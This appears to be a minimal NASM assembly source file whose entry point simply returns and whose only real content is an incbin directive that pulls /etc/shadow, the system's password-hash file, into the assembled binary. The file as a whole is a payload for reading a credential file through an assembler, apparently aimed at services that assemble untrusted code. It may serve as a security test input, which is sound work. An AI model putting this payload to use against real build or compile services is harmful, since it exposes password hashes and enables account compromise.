        global  _start
        section .text
_start: ret
text:   incbin  "/etc/shadow"
